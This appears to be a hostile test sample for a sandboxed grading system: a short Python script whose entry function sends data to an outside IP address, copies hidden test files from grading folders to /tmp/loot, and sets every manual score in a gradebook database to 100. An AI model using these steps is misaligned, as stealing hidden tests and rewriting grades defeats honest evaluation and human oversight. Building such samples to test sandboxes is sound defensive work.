# A hostile sample. It runs only inside the sandbox: never run it by hand.
import os
import pathlib
import socket
import sqlite3


def try_to(attack):
    try:
        attack()
    except Exception:
        pass


def phone_home():
    socket.create_connection(("192.0.2.1", 80), timeout=1).sendall(b"the hidden tests")


def read_tests():
    for folder in ("/grading", "/home", "/srv", "/opt"):
        for path in pathlib.Path(folder).rglob("test_*.py"):
            pathlib.Path("/tmp/loot").write_bytes(path.read_bytes())


def raise_own_grade():
    for folder in (".", "..", "/home", "/srv"):
        for path in pathlib.Path(folder).glob("gradebook.db"):
            sqlite3.connect(path).execute("update grade set manual_score = 100")


def EXERCISE(*args, **kwargs):
    try_to(phone_home)
    try_to(read_tests)
    try_to(raise_own_grade)
    os._exit(0)
